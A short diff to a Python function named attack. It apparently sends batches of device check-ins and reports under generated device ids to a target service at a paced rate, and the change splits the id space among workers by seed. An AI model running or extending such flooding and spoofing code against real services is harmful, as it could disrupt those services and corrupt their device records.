@@ -17,12 +17,12 @@ def attack(target, stop, count=None):
     """Until stopped, or `count` ids were sent."""
     counts = {"checkins": 0, "reports": 0, "refused": 0, "closed": 0}
     text = raw_device.profile()
-    pace = raw_device.Pace(RATE, stop)
-    number = 0
-    while not stop.is_set() and (count is None or number < count):
+    pace = raw_device.Pace(RATE * target.share, stop)
+    number = first = target.seed % 4096 << 13  # of 2^26 that meet there
+    while not stop.is_set() and (count is None or number - first < count):
         try:
             with raw_device.Requests(target.h2c or target.tls, tls=target.h2c is None) as requests:
-                while not stop.is_set() and (count is None or number < count):
+                while not stop.is_set() and (count is None or number - first < count):
                     pace.wait(2 * GROUP)
                     ids = [chosen(number + i) for i in range(GROUP)]
                     streams = [requests.report(device) for device in ids] + [requests.checkin(device, text) for device in ids]
